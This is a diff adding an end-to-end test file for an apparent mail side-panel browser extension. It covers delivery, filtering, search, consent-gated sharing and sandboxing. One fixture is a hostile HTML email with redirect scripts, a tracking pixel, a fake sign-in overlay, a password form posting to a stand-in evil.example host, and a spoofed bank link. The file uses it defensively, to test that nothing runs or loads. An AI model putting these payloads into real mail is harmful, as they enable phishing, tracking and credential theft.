@@ -1,0 +1,250 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { employ, haveContact, lookAt, seat } from '../road/arrange.ts'
+import { arrive, openThread, type Traveller } from '../road/road.ts'
+import type { Person } from '../stand-ins/door.ts'
+import { buildMail } from '../stand-ins/gmail-page/mime.ts'
+import { startTown, type Town } from '../stand-ins/town.ts'
+import { buildExtension } from './harness/build.ts'
+import { launchBrowser, type TestBrowser } from './harness/launch.ts'
+import { goTo } from './workspace-kit.ts'
+
+const MIA = 'Mia Sato <mia.sato@arbor.example>'
+const KEN = 'Ken Mori <ken.mori@arbor.example>'
+const ANA = 'Ana Ruiz <ana.ruiz@arbor.example>'
+const ELENA = 'Elena Brandt <elena.brandt@haldenmarine.example>'
+
+/** Everything a mail can try; each leads to a host that nobody may ask. */
+const hostile = `<html><head><base href="https://base.evil.example/"><link rel="preconnect" href="https://hint.evil.example">
+<link rel="stylesheet" href="https://css.evil.example/a.css"><meta http-equiv="refresh" content="0;url=https://refresh.evil.example/">
+<style>@import "https://import.evil.example/b.css"; body{background:url(https://ground.evil.example/c.png)}</style></head>
+<body onload="top.location='https://onload.evil.example/'"><p>Dear Mia, the quote is ready.</p>
+<script>top.location='https://script.evil.example/';parent.postMessage('ran','*')</script>
+<img src="https://pixel.evil.example/open.gif?m=1" width="1" height="1"><img src="x" onerror="parent.postMessage('ran','*')">
+<img src="https://photo.evil.example/a.png" srcset="https://set.evil.example/b.png 2x">
+<div style="position:fixed;inset:0;z-index:99999;background:#fff url(https://style.evil.example/d.png)">Sign in again</div>
+<svg><script>parent.postMessage('ran','*')</script><a xlink:href="javascript:parent.postMessage('ran','*')"><text>x</text></a></svg>
+<iframe src="https://frame.evil.example/"></iframe><object data="https://object.evil.example/"></object>
+<video autoplay poster="https://poster.evil.example/e.png" src="https://video.evil.example/f.mp4"></video>
+<form action="https://form.evil.example/"><p>Your password</p><input name="password"><button id="go">Go on</button></form>
+<p><a href="https://login.evil.example/account">https://bank.example/account</a> <a href="javascript:top.location='https://link.evil.example/'">here</a>
+<a href="https://top.evil.example/" target="_top">there</a></p>
+<blockquote>On Monday Mia wrote: please send the quote.</blockquote></body></html>`
+
+describe.each(['chromium', 'firefox'] as const)('mail on records, in %s', (kind) => {
+  let town: Town
+  let browser: TestBrowser
+  let mia: Traveller
+  let person: Person
+  let ken: Person
+
+  beforeAll(async () => {
+    town = await startTown({ google: { startAt: Date.parse('2026-11-23T15:00:00+09:00') } })
+    person = await employ(town, town.world.mia)
+    ken = await employ(town, town.world.ken)
+    await haveContact(person, { firstName: 'Elena', lastName: 'Brandt', address: town.world.elena })
+    browser = await launchBrowser(kind, {
+      proxyPort: town.web.proxyPort,
+      extensionDir: await buildExtension(kind),
+    })
+    await seat(browser, town, [person])
+    mia = await arrive(town, browser)
+    await openThread(mia, 'retrofit')
+  })
+
+  afterAll(async () => {
+    await browser?.close()
+    await town?.stop()
+  })
+
+  /** A test that failed may have left anything open. */
+  beforeEach(async () => {
+    const frame = await mia.side.frame()
+    for (let step = 0; step < 6 && (await mia.side.texts('card')).length === 0; step++) {
+      await frame.evaluate(() => document.querySelector<HTMLElement>('[data-testid=back]')?.click())
+      if ((await mia.side.texts('narrow')).length > 0) await mia.side.click('narrow')
+    }
+    await mia.side.waitFor('card')
+    await restPointer()
+  })
+
+  /** At the panel's head: rows that are pointed at hold new ones back. */
+  const restPointer = () => mia.page.mouse.move(1100, 72)
+
+  let sent = 0
+  const mail = (
+    from: string,
+    to: string,
+    subject: string,
+    body: { text?: string; html?: string; cc?: string },
+  ) => {
+    sent += 1
+    const headers: [string, string][] = [
+      ['Date', new Date(town.google.clock.now()).toUTCString().replace('GMT', '+0000')],
+      ['Message-ID', `<emails-${sent}@haldenmarine.example>`],
+      ['From', from],
+      ['To', to],
+      ...(body.cc === undefined ? [] : [['Cc', body.cc] satisfies [string, string]]),
+      ['Subject', subject],
+    ]
+    return buildMail({ headers, ...body })
+  }
+  /** Into these mailboxes as it arrives from outside; Gmail's clock then moves past the next look. */
+  const arriveIn = (addresses: readonly string[], raw: Buffer) => {
+    const ids = addresses.map((address) => town.google.mailbox(address).deliver(raw).id ?? '')
+    town.google.clock.advance(61_000)
+    return ids
+  }
+  const list = async () => {
+    await mia.side.click('all-emails')
+    await mia.side.waitFor('emails-page')
+    await restPointer()
+  }
+  const openRecordPage = async () => {
+    await goTo(mia, 'contacts')
+    await mia.side.click('list-row', { text: 'Elena Brandt' })
+    await mia.side.waitFor('record-place', { text: 'Elena Brandt' })
+  }
+  const back = async (shown: string) => {
+    await mia.side.click('back')
+    await mia.side.waitFor(shown)
+  }
+
+  it('S-017, S-019, S-059: what arrives and what a phone sends stand on the record', async () => {
+    arriveIn([town.world.mia], mail(ELENA, MIA, 'Delivery week', { text: 'Week 46 suits us.' }))
+    await mia.side.waitFor('email-row', { text: 'Delivery week' })
+    town.google.mailbox(town.world.mia).send(mail(MIA, ELENA, 'From the train', { text: 'Week 46 it is.' }))
+    town.google.clock.advance(61_000)
+    expect(await mia.side.waitFor('email-row', { text: 'From the train' })).toContain('Sent to Elena')
+  })
+
+  it('three mailboxes, one row', async () => {
+    await employ(town, town.world.ana)
+    const raw = mail(ELENA, MIA, 'To all three', { cc: `${KEN}, ${ANA}`, text: 'Hello.' })
+    arriveIn([town.world.mia, town.world.ken, town.world.ana], raw)
+    await mia.side.waitFor('email-row', { text: 'To all three' })
+    await list()
+    const rows = (await mia.side.texts('email-row')).filter((row) => row.includes('To all three'))
+    expect(rows).toHaveLength(1)
+    await lookAt(mia, 'emails-list')
+  })
+
+  it('opens in place with its text, quoted lines folded', async () => {
+    arriveIn(
+      [town.world.mia],
+      mail(ELENA, MIA, 'In plain words', {
+        text: 'See https://halden.example/plan for it.\n\n> one\n> two\n> three\n> four\n\nElena',
+      }),
+    )
+    await mia.side.click('email-row', { text: 'In plain words' })
+    const shown = 'See https://halden.example/plan for it. Quoted text Elena'
+    expect(await mia.side.waitFor('plain-text', { text: 'Elena' })).toBe(shown)
+    expect(await mia.side.text('on-records')).toContain('Elena Brandt')
+    expect(await mia.side.text('on-records')).toContain('elena.brandt@haldenmarine.example in From')
+    expect(await mia.side.text('share-state')).toBe('Only you see it')
+    await lookAt(mia, 'mail-plain')
+  })
+
+  it('hostile HTML runs nothing, asks nobody, covers nothing and leads nowhere unseen', async () => {
+    arriveIn([town.world.mia], mail(ELENA, MIA, 'Your account', { html: hostile }))
+    const frame = await mia.side.frame()
+    await frame.evaluate(() => {
+      const scope = globalThis as unknown as { heard: unknown[] }
+      scope.heard = []
+      addEventListener('message', ({ data }) => scope.heard.push(data))
+    })
+    const before = mia.page.url()
+    await mia.side.click('email-row', { text: 'Your account' })
+    await mia.side.waitFor('mail-frame')
+    expect(await mia.side.waitFor('left-out')).toMatch(/images, \d forms? and \d+ active parts\.$/)
+    const inside = await frame.evaluate(async () => {
+      const shown = document.querySelector<HTMLIFrameElement>('[data-testid=mail-frame]')
+      if (shown === null) throw new Error('no frame')
+      // Loaded once more, so that whatever it does it has done when this answers.
+      const loaded = new Promise((resolve) => shown.addEventListener('load', resolve, { once: true }))
+      const { srcdoc } = shown
+      shown.srcdoc = srcdoc
+      await loaded
+      const text = new DOMParser().parseFromString(srcdoc, 'text/html').body.textContent ?? ''
+      return { rights: [...shown.sandbox], text: text.replace(/\s+/g, ' ') }
+    })
+    expect(inside.rights.sort()).toEqual(['allow-popups', 'allow-popups-to-escape-sandbox'])
+    expect(inside.text).toContain('Dear Mia, the quote is ready.')
+    expect(inside.text).toContain('https://bank.example/account (login.evil.example)')
+    await lookAt(mia, 'mail-hostile')
+    // Whatever it wanted to cover is in its reach: the way back is not.
+    const back = await frame.evaluate(() => {
+      const button = document.querySelector('[data-testid=back]')
+      const at = button?.getBoundingClientRect()
+      const on = at && document.elementFromPoint(at.x + at.width / 2, at.y + at.height / 2)
+      return on !== null && on !== undefined && button?.contains(on) === true
+    })
+    expect(back).toBe(true)
+    expect(await frame.evaluate(() => (globalThis as unknown as { heard: unknown[] }).heard)).toEqual([])
+    expect(mia.page.url()).toBe(before)
+    expect(town.web.blocked.filter((one) => one.includes('evil.example'))).toEqual([])
+  })
+
+  it('S-068: filters by kind, status, mailbox and hand; search finds what is archived', async () => {
+    const [id = ''] = arriveIn(
+      [town.world.mia],
+      mail(ELENA, MIA, 'Old drawings', { text: 'The flange is 40 mm wide.' }),
+    )
+    await mia.side.waitFor('email-row', { text: 'Old drawings' })
+    town.google.mailbox(town.world.mia).modify(id, { remove: ['INBOX'] })
+    await list()
+    await mia.side.click('filter-sent')
+    await mia.side.waitForNo('email-row', { text: 'Received' })
+    await mia.side.click('open-email-filter')
+    await mia.side.click('status-received')
+    expect(await mia.side.texts('line-filter-person')).toHaveLength(1)
+    await mia.side.waitFor('filter-show', { text: 'Show ' })
+    await lookAt(mia, 'emails-filter')
+    await mia.side.click('filter-show')
+    await mia.side.waitForNo('email-row', { text: 'Sent' })
+    await mia.side.click('show-everything')
+    await mia.side.waitFor('email-row', { text: 'Sent' })
+    await mia.page.keyboard.press('/')
+    await mia.side.fill('email-search', 'flange')
+    await mia.side.waitFor('email-result', { text: '1 found for “flange”' })
+    expect(await mia.side.texts('email-row')).toHaveLength(1)
+    expect(await mia.side.waitFor('email-row')).toContain('Old drawings')
+    await lookAt(mia, 'emails-search')
+  })
+
+  it('who and when: no subject in row or page, and the text only after its owner agreed', async () => {
+    await ken.call('PUT', '/sharing', { mode: 'metadata' })
+    arriveIn([town.world.ken], mail(ELENA, KEN, 'Secret discount', { text: 'Twelve percent.' }))
+    const row = await mia.side.waitFor('email-row', { text: 'Subject not shared' })
+    expect(row).toContain('Elena to Ken')
+    await mia.side.click('email-row', { text: 'Subject not shared' })
+    await mia.side.click('ask-for-text')
+    await mia.side.waitFor('request-state', { text: 'You asked Ken Mori.' })
+    await lookAt(mia, 'mail-asked')
+    const shown = await (await mia.side.frame()).evaluate(() => document.body.textContent)
+    expect(shown).not.toMatch(/Secret discount|Twelve/)
+    const { body } = await ken.call<{ toMe: { id: string }[] }>('GET', '/sharing/requests')
+    await ken.call('POST', `/sharing/requests/${body.toMe[0]?.id}`, { answer: 'grant' })
+    await mia.side.click('show-text')
+    expect(await mia.side.waitFor('plain-text')).toBe('Twelve percent.')
+    expect(await mia.side.text('their-text')).toContain('Ken Mori, who sees that you opened it')
+    await lookAt(mia, 'mail-granted')
+  })
+
+  it('S-003, S-011 … S-014: the mail tab lists my mail with its records, and goes with the mailbox', async () => {
+    await mia.side.click('widen')
+    await goTo(mia, 'emails')
+    await mia.side.waitFor('email-row', { text: 'Delivery week' })
+    expect((await mia.side.texts('row-records')).join()).toContain('Elena Brandt')
+    await lookAt(mia, 'emails-tab')
+    await mia.side.click('email-row', { text: 'Your account' })
+    await mia.side.waitFor('mail-frame')
+    await lookAt(mia, 'mail-wide')
+    await back('emails-place')
+    await mia.side.click('new-mail')
+    await mia.side.waitFor('compose')
+    await mia.page.keyboard.press('Escape')
+    await mia.side.waitForNo('compose')
+    await openRecordPage()
+    await lookAt(mia, 'emails-record')
+  })
+})
